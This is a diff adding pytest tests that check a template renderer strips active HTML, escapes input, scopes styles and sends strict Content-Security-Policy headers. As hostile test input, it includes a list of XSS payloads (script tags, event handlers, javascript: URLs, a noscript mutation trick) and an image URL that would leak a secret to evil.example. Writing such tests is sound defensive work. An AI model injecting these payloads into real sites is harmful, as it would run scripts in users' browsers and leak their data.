@@ -1,0 +1,69 @@
+"""Templates and inputs are untrusted: nothing of theirs runs, and nothing of theirs leaves its part of the page."""
+
+import re
+
+import pytest
+
+from helpers.review import TemplateError, render
+
+HOSTILE = """<script>alert(1)</script><img src=x onerror="alert(2)"><svg onload="alert(3)"></svg><iframe src="//evil"></iframe>
+<base href="//evil"><meta http-equiv="refresh" content="0;url=//evil"><form action="//evil"><input name="a" formaction="//evil">
+<a href="javascript:alert(4)">a</a><object data="//evil"></object><link rel="stylesheet" href="//evil"><style>p{color:red}</style>
+<math><mi xlink:href="javascript:alert(5)"></mi></math><noscript><p title="</noscript><img src=x onerror=alert(6)>"></noscript>"""
+
+
+def test_nothing_of_a_template_can_act():
+    html = render(HOSTILE, {}).html
+    for word in (
+        "<script",
+        "onerror=",
+        "onload",
+        "iframe",
+        "<base",
+        "<meta",
+        "<form",
+        "formaction",
+        "javascript:",
+        "<object",
+        "<link",
+        "<svg",
+    ):
+        assert word not in html, word
+
+
+def test_a_templates_style_stays_in_its_part():
+    assert re.search(r"<style>@scope \(\.worker-template\) \{\s*p\{color:red\}\s*\}</style>", render(HOSTILE, {}).html)
+
+
+def test_a_script_in_data_is_text():
+    html = render("<p title='{{ task.input.a }}'>{{ task.input.a }}</p>", {"a": "'><script>alert(1)</script>"}).html
+    assert "<script" not in html and "&lt;script&gt;" in html
+
+
+def test_pages_forbid_scripts_but_their_own(anna, store):
+    store.add(
+        "1", '<img src="{{ task.input.a | grant_read_access }}"><input name="b">', {"a": "https://host.example/i.png"}
+    )
+    answer = anna.get("/tasks/1")
+    policy = dict(part.split(" ", 1) for part in answer.headers["Content-Security-Policy"].split("; "))
+    nonce = re.fullmatch(r"'nonce-([\w-]{16,})'", policy["script-src"])[1]
+    assert policy["default-src"] == policy["base-uri"] == policy["frame-ancestors"] == "'none'"
+    assert policy["form-action"] == policy["connect-src"] == "'self'"
+    assert policy["img-src"] == "'self' data: https://host.example"
+    assert {script.get("nonce") for script in answer.page.iter("script")} == {nonce}
+    assert nonce not in anna.get("/tasks/1").text
+    assert answer.headers["Referrer-Policy"] == "no-referrer" and answer.headers["Cache-Control"] == "no-store"
+
+
+def test_other_hosts_pictures_are_not_loaded(anna, store):
+    store.add("1", '<img src="https://evil.example/?{{ task.input.a }}"><input name="b">', {"a": "secret"})
+    assert "evil" not in anna.get("/tasks/1").headers["Content-Security-Policy"]
+
+
+def test_a_page_too_large_for_a_browser_is_refused():
+    with pytest.raises(TemplateError, match="characters of its task"):
+        render("{{ task.input.a }}", {"a": "x" * 5_000_000})
+
+
+def test_five_megabytes_of_input_are_no_matter_where_little_of_it_is_shown():
+    assert "yes" in render("{{ task.input.b }}", {"a": "x" * 5_000_000, "b": "yes"}).html
